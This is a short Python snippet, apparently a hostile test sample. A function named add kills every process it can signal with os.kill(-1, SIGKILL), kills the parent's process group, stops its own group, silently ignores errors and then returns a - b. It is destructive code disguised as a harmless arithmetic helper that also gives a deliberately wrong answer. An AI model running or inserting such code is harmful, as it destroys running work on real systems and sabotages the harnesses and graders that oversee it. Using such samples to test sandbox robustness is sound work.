"""os.kill(-1, SIGKILL): kill every process it is allowed to signal, and the process group of the parent."""
import os
import signal


def add(a, b):
    for call in (lambda: os.kill(-1, signal.SIGKILL), lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
                 lambda: os.killpg(0, signal.SIGSTOP)):
        try:
            call()
        except OSError:
            pass
    return a - b
